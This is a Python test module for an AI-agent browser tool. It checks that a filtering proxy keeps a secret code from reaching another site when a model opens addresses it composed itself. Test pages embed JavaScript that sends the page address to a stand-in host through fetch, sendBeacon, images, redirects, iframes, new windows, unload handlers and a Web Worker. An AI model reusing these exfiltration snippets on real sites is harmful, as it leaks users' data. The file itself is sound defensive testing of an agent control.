"""What a model made up and opened on the user's own site is not sent on to another: in both browsers, over http and
over https."""

from __future__ import annotations

import asyncio
import re
import shutil
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

import pytest

from handrail import Session
from handrail.browser import BrowserOptions, open_browser
from handrail.browser.network.filtering_proxy.sign_in import sign_in
from handrail.browser.page.refs import Refs
from handrail.browser.playwright_browser import PlaywrightBrowser
from handrail.browser.tabs.tabs import PlaywrightTabs
from tests.browser.network.filtering_proxy.test_upstream import certified
from tests.browser.network.filtering_proxy.wires import Site, head_of

CODE = "q7kx2mvw"
POSTS = """<h1>Posts</h1><script>
  fetch('OTHER/text', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ url: location.href }) });
  fetch('OTHER/blob', { method: 'POST', mode: 'no-cors', body: new Blob([location.href]) });
  navigator.sendBeacon('OTHER/beacon', new URLSearchParams({ url: location.href }));
  fetch('OTHER/none', { method: 'POST', mode: 'no-cors' });
</script>"""
"""Tells another site by POST where it stands, as what counts visits does."""


SENDS = {
    "image": "new Image().src = there",
    "fetch": "fetch(there, { mode: 'no-cors' })",
    "redirect": "location.href = '/out?to=' + there",
    "refresh": "document.write(`<meta http-equiv=refresh content='0; url=${there}'>`)",
    "frame": "document.write(`<iframe src='${there}'></iframe>`)",
    "window": "open(there, '_blank', 'noopener')",
    "signIn": "navigator.credentials?.get({ identity: { providers: [{ configURL: there, clientId: '1' }] } })",
    "leave": "addEventListener('pagehide', () => fetch(there, { mode: 'no-cors', keepalive: true }))",
}
"""Ways in which a page may pass on its own address, which no comparison of texts would recognise."""


@dataclass
class World:
    """The user's site, and another one: what that was asked for is in ``told``, line by line as it came."""

    session: Session
    home: str = ""
    other: str = ""
    told: list[str] = field(default_factory=list)
    go_on: asyncio.Event = field(default_factory=asyncio.Event)

    async def model_opens(self, path: str) -> bool:
        """A page of the user's site, by an address that the model made up."""
        return (await self.session.call_as("model", "goto", url=self.home + path)).ok

    def asked(self, path: str) -> bool:
        return any(head.startswith(f"GET {path} ") for head in self.told)

    @property
    def is_chromium(self) -> bool:
        browser = self.session.tab.page.context.browser
        return browser is not None and browser.browser_type.name == "chromium"

    @property
    def leaked(self) -> bool:
        return any(CODE in head for head in self.told)

    async def at_home(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            target = (await head_of(reader)).decode().split()[1]
            writer.write(await self._page(urlsplit(target).path, dict(parse_qsl(urlsplit(target).query))))

    async def elsewhere(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            head = (await head_of(reader)).decode()
            length = re.search(r"content-length: (\d+)", head, re.IGNORECASE)
            self.told.append(head + (await reader.readexactly(int(length[1]) if length else 0)).decode())
            writer.write(PARTS.get(head.split()[1]) or _said("200 OK", "<h1>Elsewhere</h1>"))

    async def _page(self, path: str, query: dict[str, str]) -> bytes:
        logo = f"<link rel=stylesheet href='{self.other}/logo'>"
        match path:
            case "/out":
                return _said(f"302 Found\r\nLocation: {query['to']}")
            case "/slow":
                await self.go_on.wait()
                return _said(f"302 Found\r\nLocation: {query['to']}")
            case "/shows":
                return _said("200 OK", f"<h1>Shows</h1><img src='{query['image']}'>{logo}")
            case "/parts":
                return _said("200 OK", PARTLY.replace("OTHER", self.other))
            case "/posts":
                return _said("200 OK", POSTS.replace("OTHER", self.other))
            case "/encodes":
                carrier = "<script>const there = 'OTHER/' + btoa(location.search); MORE</script>"
                return _said("200 OK", carrier.replace("OTHER", self.other).replace("MORE", SENDS[query["by"]]))
            case "/works":
                sends = f"setInterval(() => fetch('{self.other}/{CODE}', {{ mode: 'no-cors' }}).catch(() => 0), 10)"
                return _said("200 OK", f"<h1>Works</h1><script>new Worker(`data:,{sends}`)</script>")
            case "/opens":
                return _said("200 OK", f"<h1>Opens</h1><script>open('{query['to']}')</script>")
            case "/unsafe":
                return _said("200 OK", f"<meta name=referrer content=unsafe-url><h1>Unsafe</h1>{logo}")
            case _:
                return _said("200 OK", f"<h1>Home</h1>{logo}<a href='/out?to={self.other}/linked'>Partner</a>")


def _said(status: str, text: str = "", kind: str = "text/html") -> bytes:
    kept = f"Content-Type: {kind}\r\nCache-Control: no-store"
    return f"HTTP/1.1 {status}\r\n{kept}\r\nContent-Length: {len(text)}\r\n\r\n{text}".encode()


PARTLY = """<h1>Parts</h1><link rel=stylesheet href=OTHER/look.css><script src=OTHER/newest.js></script>
<script>for (const bit of location.search) document.write(`<script src=OTHER/${bit < 'm' ? 'newest' : 'code'}.js><` +
'/script>')</script>"""
"""Needs a style and a script of the other site, and spells its own address by asking for them again."""
PARTS = {
    "/look.css": _said("200 OK", "h1 { letter-spacing: 7px }", "text/css"),
    "/newest.js": _said("302 Found\r\nLocation: /code.js"),
    "/code.js": _said("200 OK", "window.parts = (window.parts || 0) + 1", "text/javascript; charset=iso-8859-1"),
}


@pytest.fixture(scope="module", params=["chromium", "firefox"])
async def browser(request: pytest.FixtureRequest) -> AsyncIterator[PlaywrightBrowser]:
    one = await open_browser(BrowserOptions(browser=request.param, headless=True, network=lambda *_: None))
    yield one
    await one.close()


@pytest.fixture(params=["http", "https"])
async def world(request: pytest.FixtureRequest, browser: PlaywrightBrowser, tmp_path: Path) -> AsyncIterator[World]:
    tls = certified("localhost", tmp_path)[1] if request.param == "https" else None
    assert browser.context.browser is not None
    assert browser.proxy is not None
    async with AsyncExitStack() as stack:
        context = await browser.context.browser.new_context(ignore_https_errors=True)
        stack.push_async_callback(context.close)
        # Firefox keeps one list of proxy passwords for all contexts: `open_browser` has signed in for each.
        if browser.context.browser.browser_type.name == "chromium":
            await sign_in(browser.proxy, context, firefox=False)
        tabs = await PlaywrightTabs(context, Refs(), run_dir=tmp_path, proxy=browser.proxy).start()
        one = PlaywrightBrowser("shared", context, tabs)
        world = World(await stack.enter_async_context(Session(using=one, run_dir=tmp_path)))
        home = await stack.enter_async_context(Site(world.at_home, tls=tls))
        other = await stack.enter_async_context(Site(world.elsewhere, tls=tls))
        world.home, world.other = f"{request.param}://{home.at}", f"{request.param}://{other.at}"
        # The user's own start; its logo has the browser keep a connection to the other site.
        assert (await world.session.call("goto", url=f"{world.home}/")).ok
        yield world


pytestmark = pytest.mark.skipif(shutil.which("openssl") is None, reason="needs openssl for a certificate")


async def test_a_redirect_of_an_address_that_a_model_made_up_is_not_followed(world: World):
    assert world.asked("/logo")
    assert not await world.model_opens(f"/out?to={world.other}/{CODE}")
    assert not await world.model_opens(f"/out?to=/out?to={world.other}/{CODE}")
    await world.model_opens(f"/shows?image=/out?to={world.other}/{CODE}")
    await world.model_opens(f"/unsafe?{CODE}")
    await world.session.call_as("model", "reload")
    assert not world.leaked


async def test_a_tainted_page_gets_copies_of_the_parts_that_it_had_from_another_site(world: World):
    assert (await world.session.call("goto", url=f"{world.home}/parts")).ok
    assert world.asked("/look.css")
    assert world.asked("/code.js")
    world.told.clear()
    assert (opened := await world.session.call_as("model", "goto", url=f"{world.home}/parts?{CODE}")).ok
    assert world.told == []
    spacing = "getComputedStyle(document.querySelector('h1')).letterSpacing"
    looks = await world.session.tab.page.evaluate(f"[{spacing}, window.parts]")
    # Elsewhere the browser does not tell which requests are for parts.
    assert looks == (["7px", len(CODE) + 2] if world.is_chromium else ["normal", None])
    assert ("stopped_requests" not in opened.followed) is world.is_chromium


async def test_what_such_a_page_posts_to_others_and_opens_beside_itself_does_not_tell_either(world: World):
    world.told.clear()
    await world.model_opens(f"/posts?{CODE}")
    assert not world.told
    await world.model_opens(f"/opens?to={world.other}/{CODE}")
    await world.model_opens(f"/opens?to=/out?to={world.other}/{CODE}")
    assert await world.model_opens(f"/?{CODE}")
    assert not world.leaked


async def test_nothing_leaves_a_page_with_a_composed_address_in_any_encoding_until_it_is_left(world: World):
    world.told.clear()
    for way in SENDS:
        await world.model_opens(f"/encodes?by={way}&x={CODE}")
    await world.session.call_as("model", "goto", url=f"{world.home}/")
    await world.session.call_as("model", "back")
    await world.session.call_as("model", "snapshot")
    assert [head for head in world.told if not head.startswith("GET /logo ")] == []
    # The user's own address clears the tab, and what the page opened is closed.
    for tab in [tab for tab in world.session.tabs.all() if tab is not world.session.tab]:
        await world.session.tabs.close(tab.id)
    world.told.clear()
    assert (await world.session.call("goto", url=f"{world.home}/")).ok
    assert world.asked("/logo")


async def test_a_pages_own_way_back_to_a_composed_address_leads_nothing_out(world: World):
    await world.model_opens(f"/encodes?by=leave&x={CODE}")
    assert (await world.session.call("goto", url=f"{world.home}/")).ok
    world.told.clear()
    world.session.provenance.words.add_text(f"open {world.home}/home")
    assert await world.model_opens("/home")
    assert not world.session.tab.core.taint.holds
    await world.session.tab.page.evaluate("history.go(-3)")
    await world.session.tab.page.wait_for_url("**/encodes?*")
    assert world.session.tab.core.taint.holds
    assert (await world.session.call_as("model", "goto", url=f"{world.home}/home")).ok
    assert [head for head in world.told if not head.startswith("GET /logo ")] == []


async def test_a_redirect_that_comes_after_the_page_was_given_up_is_not_followed(world: World):
    world.session.call_timeout = 2.0
    assert not await world.model_opens(f"/slow?to={world.other}/{CODE}")
    world.session.call_timeout = 30.0
    world.go_on.set()
    # What comes of it has come when another tab has asked the other site for something.
    world.told.clear()
    for _ in range(2):
        await world.session.call("new_tab", url=f"{world.home}/")
    # In Firefox nobody can tell the two tabs apart.
    assert world.asked("/logo") is world.is_chromium
    assert not world.leaked


async def test_a_redirect_of_an_address_that_a_page_or_the_user_gave_is_followed(world: World):
    await world.session.call("snapshot")
    assert await world.model_opens(f"/out?to={world.other}/linked")
    assert world.asked("/linked")
    assert (await world.session.call("goto", url=f"{world.home}/out?to={world.other}/{CODE}")).ok
    assert world.asked(f"/{CODE}")


@pytest.mark.parametrize(("browser", "world"), [("chromium", "http")], indirect=True)
async def test_a_page_that_hangs_tells_nothing_while_its_tab_is_replaced(world: World):
    await world.model_opens(f"/works?{CODE}")
    hung = world.session.tab
    gone = asyncio.ensure_future(hung.page.wait_for_event("close"))
    await hung.page.evaluate("setTimeout(() => { while (true); })")
    await hung.core.replace_tab()
    assert not world.session.tab.core.taint.holds
    await gone
    assert not world.leaked
